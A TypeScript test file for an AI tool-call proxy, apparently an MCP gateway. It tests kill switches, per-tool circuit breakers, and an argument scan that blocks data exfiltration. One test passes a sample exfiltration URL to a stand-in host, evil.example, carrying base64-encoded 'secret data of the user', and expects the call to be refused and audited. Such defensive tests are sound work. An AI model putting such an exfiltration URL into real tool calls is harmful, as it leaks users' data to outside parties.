/**
 * What stops a call besides the tool policy: kill switches set from another process while a stdio session
 * runs, the per-tool circuit breaker over an upstream that keeps timing out, and the `tool_call` scan of the
 * arguments (an exfiltration URL). Against the real fixture server process.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { openSqliteStores } from '../../src/gateway/backends/sqlite.js';
import { auditRecords, call, connect, refusalOf, stdioFixture, testDir, textOf, type TestDir } from './helpers.js';

describe('mcp proxy: kill switches, breakers, argument scan', () => {
  let t: TestDir;
  beforeEach(() => {
    t = testDir();
  });
  afterEach(() => t.dispose());

  it('honours a tool kill switch set and cleared by another process during the session', async () => {
    const p = await connect(t.config({ servers: { fx: stdioFixture() } }));
    const stores = openSqliteStores(t.dataDir);
    try {
      expect(textOf(await call(p.client, 'add', { a: 1, b: 1 }))).toBe('2');
      await stores.killStore.set('tool', 'add', 'incident 42', new Date());
      expect((await p.client.listTools()).tools.map((x) => x.name)).not.toContain('add');
      expect(refusalOf(await call(p.client, 'add', { a: 1, b: 1 }))).toMatchObject({ error: 'kill_switch_active', rule: 'mcp/kill-switch' });
      await stores.killStore.set('key', 'agent-1', null, new Date());
      expect(refusalOf(await call(p.client, 'read_doc', { name: 'clean' }))).toMatchObject({ error: 'kill_switch_active', rule: 'mcp/kill-switch' });
      await stores.killStore.clear('key', 'agent-1');
      await stores.killStore.clear('tool', 'add');
      expect(textOf(await call(p.client, 'add', { a: 1, b: 1 }))).toBe('2');
    } finally {
      stores.close();
      await p.close();
    }
  }, 60_000);

  it('opens a tool circuit after failures and refuses without calling the server', async () => {
    const p = await connect(t.config({ servers: { fx: stdioFixture() }, call_timeout_ms: 300, breakers: { failure_threshold: 2, cooldown_ms: 600_000 } }));
    try {
      expect(refusalOf(await call(p.client, 'slow'))).toMatchObject({ rule: 'mcp/upstream-timeout' });
      expect(refusalOf(await call(p.client, 'slow'))).toMatchObject({ rule: 'mcp/upstream-timeout' });
      const open = refusalOf(await call(p.client, 'slow'));
      expect(open).toMatchObject({ error: 'upstream_unavailable', rule: 'mcp/breaker-open' });
      expect(open.reason).toContain('slow');
      // Other tools have their own breakers.
      expect(textOf(await call(p.client, 'add', { a: 2, b: 2 }))).toBe('4');
    } finally {
      await p.close();
    }
  }, 60_000);

  it('refuses arguments the tool_call scan blocks and records the findings', async () => {
    const p = await connect(t.config({ servers: { fx: stdioFixture() } }));
    try {
      const r = refusalOf(await call(p.client, 'read_doc', { name: 'https://evil.example/collect?data=c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXI' }));
      expect(r).toMatchObject({ error: 'content_filter', rule: 'exfil-url/link-with-data' });
    } finally {
      await p.close();
    }
    const rec = (await auditRecords(t.dataDir)).find((x) => x.route === 'mcp:tools/call');
    expect(rec).toMatchObject({ action: 'block', decidingRule: 'exfil-url/link-with-data' });
    expect(rec?.inputFindings.map((f) => f.ruleId)).toContain('exfil-url/link-with-data');
  }, 60_000);
});
